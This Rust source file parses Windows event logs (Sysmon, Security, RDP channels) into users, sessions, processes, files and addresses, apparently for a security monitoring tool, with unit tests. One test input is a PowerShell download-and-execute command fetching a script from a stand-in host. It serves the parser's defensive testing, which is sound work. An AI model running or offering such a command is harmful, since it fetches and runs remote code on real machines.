use super::What;
use crate::fields::FieldList;
use model::{Entity, EntityKind, Role};

/// Entities of one event; what a command line names beyond them is left out.
const ENTITIES_MAX: usize = 32;

/// Whom and what an event names, as it stands there.
pub(super) fn entities(what: &What, fields: &FieldList) -> Vec<Entity> {
    let mut found = Found { fields, list: vec![] };
    found.add(Role::Target, EntityKind::Host, fields.text("Computer"));
    for Line(service, ids, role, reading) in TABLE {
        if *service == what.service && (ids.contains(&what.id) || ids.is_empty()) {
            found.read(*role, reading);
        }
    }
    found.list
}

/// Service, event numbers (all of the service where none is given), part, and how to read it.
struct Line(&'static str, &'static [i64], Role, Reading);

/// How a field is read.
enum Reading {
    /// The account in one field.
    User(&'static str),
    /// `domain\account` from two fields; the account alone where the domain is empty.
    Account(&'static str, &'static str),
    /// The logon session: `Computer/LogonId`.
    Session(&'static str),
    /// The file name of a program.
    Process(&'static str),
    /// The file name at the end of a path.
    File(&'static str),
    /// The file that a command line starts.
    Program(&'static str),
    /// The files that a command line names, programs and libraries aside.
    Files(&'static str),
    /// An address; anything else and loopback is nobody.
    Ip(&'static str),
    /// A host's name.
    Host(&'static str),
}

use Reading::{Account, File, Files, Host, Ip, Process, Program, Session, User};
use Role::{Actor, Object, Source, Target};

const PROCESS_EVENTS: &[i64] = &[2, 5, 7, 9, 11, 12, 13, 14, 15, 17, 18, 22, 23, 24, 25, 26, 27, 28, 29];
const FILE_EVENTS: &[i64] = &[2, 11, 15, 23, 26, 27, 28, 29];
const ACCOUNT_EVENTS: &[i64] = &[4720, 4722, 4723, 4724, 4725, 4726, 4738, 4740, 4767, 4781];
const SUBJECT_EVENTS: &[i64] = &[
    1102, 4648, 4656, 4657, 4658, 4660, 4661, 4662, 4663, 4670, 4672, 4673, 4674, 4688, 4689, 4697, 4698,
    4699, 4700, 4701, 4702, 4703, 4704, 4719, 4720, 4722, 4723, 4724, 4725, 4726, 4728, 4732, 4738, 4740,
    4756, 4767, 4781, 4798, 4799, 5136, 5137, 5140, 5141, 5142, 5145,
];

/// One line for each thing that an event names.
const TABLE: &[Line] = &[
    // Sysmon
    Line("sysmon", &[1], Actor, User("User")),
    Line("sysmon", &[1], Actor, Session("LogonId")),
    Line("sysmon", &[1], Actor, Process("ParentImage")),
    Line("sysmon", &[1], Object, Process("Image")),
    Line("sysmon", &[1], Object, Files("CommandLine")),
    Line("sysmon", &[3], Actor, User("User")),
    Line("sysmon", &[3], Actor, Process("Image")),
    Line("sysmon", &[3], Source, Ip("SourceIp")),
    Line("sysmon", &[3], Target, Ip("DestinationIp")),
    Line("sysmon", PROCESS_EVENTS, Actor, User("User")),
    Line("sysmon", PROCESS_EVENTS, Actor, Process("Image")),
    Line("sysmon", &[6, 7], Object, File("ImageLoaded")),
    Line("sysmon", &[8, 10], Actor, User("SourceUser")),
    Line("sysmon", &[8, 10], Actor, Process("SourceImage")),
    Line("sysmon", &[8, 10], Object, Process("TargetImage")),
    Line("sysmon", FILE_EVENTS, Object, File("TargetFilename")),
    Line("sysmon", &[19, 20, 21], Actor, User("User")),
    // Logons
    Line("security", &[4624, 4625, 4634, 4647], Actor, Account("TargetDomainName", "TargetUserName")),
    Line("security", &[4624, 4634, 4647], Actor, Session("TargetLogonId")),
    Line("security", &[4624, 4625], Source, Ip("IpAddress")),
    Line("security", &[4624, 4625], Source, Host("WorkstationName")),
    Line("security", &[4648], Target, Account("TargetDomainName", "TargetUserName")),
    Line("security", &[4648], Source, Ip("IpAddress")),
    Line("security", &[4768, 4771], Actor, Account("TargetDomainName", "TargetUserName")),
    Line("security", &[4769], Actor, User("TargetUserName")),
    Line("security", &[4768, 4769, 4771], Source, Ip("IpAddress")),
    Line("security", &[4776], Actor, User("TargetUserName")),
    Line("security", &[4776], Source, Host("Workstation")),
    Line("security", &[4778, 4779], Actor, Account("AccountDomain", "AccountName")),
    Line("security", &[4778, 4779], Actor, Session("LogonID")),
    Line("security", &[4778, 4779], Source, Ip("ClientAddress")),
    Line("security", &[4778, 4779], Source, Host("ClientName")),
    // What somebody did on a host
    Line("security", SUBJECT_EVENTS, Actor, Account("SubjectDomainName", "SubjectUserName")),
    Line("security", SUBJECT_EVENTS, Actor, Session("SubjectLogonId")),
    Line("security", &[4688], Actor, Process("ParentProcessName")),
    Line("security", &[4688], Object, Process("NewProcessName")),
    Line("security", &[4688], Object, Files("CommandLine")),
    Line("security", &[4656, 4657, 4663, 4673, 4689], Actor, Process("ProcessName")),
    Line("security", &[4697], Object, Program("ServiceFileName")),
    Line("security", ACCOUNT_EVENTS, Target, Account("TargetDomainName", "TargetUserName")),
    Line("security", &[5140, 5145], Source, Ip("IpAddress")),
    Line("security", &[5145], Object, File("RelativeTargetName")),
    Line("security", &[5156, 5157], Actor, Process("Application")),
    Line("security", &[5156, 5157], Source, Ip("SourceAddress")),
    Line("security", &[5156, 5157], Target, Ip("DestAddress")),
    // Other channels
    Line("system", &[7045], Object, Program("ImagePath")),
    Line("powershell", &[4104], Object, File("Path")),
    Line("terminalservices-localsessionmanager", &[], Actor, User("User")),
    Line("terminalservices-localsessionmanager", &[], Source, Ip("Address")),
    Line("terminalservices-remoteconnectionmanager", &[1149], Actor, Account("Param2", "Param1")),
    Line("terminalservices-remoteconnectionmanager", &[1149], Source, Ip("Param3")),
];

struct Found<'a> {
    fields: &'a FieldList,
    list: Vec<Entity>,
}

impl Found<'_> {
    fn read(&mut self, role: Role, reading: &Reading) {
        let fields = self.fields;
        match *reading {
            User(field) => self.add(role, EntityKind::User, fields.text(field)),
            Account(domain, user) => {
                self.add(role, EntityKind::User, account(fields, domain, user).as_deref())
            }
            Session(field) => self.add(role, EntityKind::Session, session(fields, field).as_deref()),
            Process(field) => self.add(role, EntityKind::Process, fields.text(field).map(base_name)),
            File(field) => self.add(role, EntityKind::File, fields.text(field).map(base_name)),
            Program(field) => self.add(role, EntityKind::File, fields.text(field).map(program)),
            Files(field) => {
                for file in fields.text(field).into_iter().flat_map(named_files) {
                    self.add(role, EntityKind::File, Some(file));
                }
            }
            Ip(field) => {
                let address = fields.address(field).map(|address| address.to_string());
                self.add(role, EntityKind::Ip, address.as_deref());
            }
            // Kerberos and SMB write `\\NAME`.
            Host(field) => {
                self.add(role, EntityKind::Host, fields.text(field).map(|h| h.trim_start_matches('\\')))
            }
        }
    }

    fn add(&mut self, role: Role, kind: EntityKind, value: Option<&str>) {
        let Some(value) = value.map(str::trim).filter(|value| !value.is_empty()) else { return };
        let known = |e: &Entity| e.role == role && e.kind == kind && &*e.value == value;
        if self.list.len() < ENTITIES_MAX && !self.list.iter().any(known) {
            self.list.push(Entity::new(role, kind, value));
        }
    }
}

fn account(fields: &FieldList, domain: &str, user: &str) -> Option<String> {
    let user = fields.text(user)?;
    Some(fields.text(domain).map_or_else(|| user.to_owned(), |domain| format!(r"{domain}\{user}")))
}

fn session(fields: &FieldList, field: &str) -> Option<String> {
    let (host, id) = (fields.text("Computer")?, fields.text(field)?);
    Some(format!("{host}/{}", id.to_ascii_lowercase()))
}

/// What follows the last separator of a path.
fn base_name(path: &str) -> &str {
    let path = path.trim().trim_matches('"');
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

/// Name of the file that a command line starts: what is in quotes, or else up to `.exe`, or else the first
/// word.
fn program(command: &str) -> &str {
    let command = command.trim_start();
    if let Some(inside) = command.strip_prefix('"') {
        return base_name(inside.split('"').next().unwrap_or(inside));
    }
    let exe = command.to_ascii_lowercase().find(".exe").map(|at| at + ".exe".len());
    let end = exe.or_else(|| command.find(char::is_whitespace)).unwrap_or(command.len());
    base_name(command.get(..end).unwrap_or(command))
}

/// Bytes of a command line that are searched for files.
const COMMAND_MAX: usize = 32 * 1024;

/// Base names of the files in a command line: words with an ending that is not a program's, a library's or a
/// domain's.
fn named_files(command: &str) -> impl Iterator<Item = &str> {
    let command = command.get(..command.floor_char_boundary(COMMAND_MAX)).unwrap_or_default();
    let quoted = command.split('"').enumerate();
    quoted
        .flat_map(|(n, part)| {
            let separator: &[char] = if n % 2 == 1 { &['"'] } else { &[' ', '\t', ',', '\'', '='] };
            part.split(separator)
        })
        .filter_map(file_in)
}

/// Endings that do not make a word the name of a document, script or archive.
const NOT_A_FILE: &[&str] = &["exe", "dll", "com", "net", "org", "local"];

fn file_in(word: &str) -> Option<&str> {
    let name = base_name(word);
    let (stem, ending) = name.rsplit_once('.')?;
    let plain =
        !name.contains(['(', ')', '[', ']', '{', '}', '<', '>', '|', ';', '$', '*', '?', ':', '@', '&', '%']);
    let ends = (1..=5).contains(&ending.len())
        && ending.bytes().all(|b| b.is_ascii_alphanumeric())
        && ending.bytes().any(|b| b.is_ascii_alphabetic());
    let other = NOT_A_FILE.iter().any(|known| known.eq_ignore_ascii_case(ending));
    (plain && ends && !other && !stem.is_empty()).then_some(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_line_names_its_documents_and_scripts() {
        for (command, files) in [
            (
                r#""C:\Program Files\Office\WINWORD.EXE" /n "C:\Users\m.keller\My Docs\Invoice_2026-03.docm" /o """#,
                &["Invoice_2026-03.docm"][..],
            ),
            ("python.exe flowcalc.py --host 10.1.10.5", &["flowcalc.py"]),
            (r"C:\Windows\system32\cmd.exe /c C:\x\a.bat,b.ps1", &["a.bat", "b.ps1"]),
            ("rundll32.exe shell32.dll,Control_RunDLL", &[]),
            (
                "powershell IEX (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')",
                &["x.ps1"],
            ),
            ("ping server.plant.local -n 1.5", &[]),
            ("", &[]),
        ] {
            assert_eq!(named_files(command).collect::<Vec<_>>(), files, "{command}");
        }
    }

    #[test]
    fn a_path_ends_in_a_name() {
        assert_eq!(base_name(r"C:\a\b.exe"), "b.exe");
        assert_eq!(base_name("\"/usr/bin/x\""), "x");
        assert_eq!(base_name(""), "");
    }

    #[test]
    fn a_service_is_called_after_the_file_it_starts() {
        assert_eq!(program(r#""C:\a b\c.exe" -k"#), "c.exe");
        assert_eq!(program(r"C:\Program Files\x\Y.EXE -k z"), "Y.EXE");
        assert_eq!(program(r"\SystemRoot\System32\drivers\m.sys"), "m.sys");
        assert_eq!(program(r"%COMSPEC% /c echo"), "%COMSPEC%");
    }
}
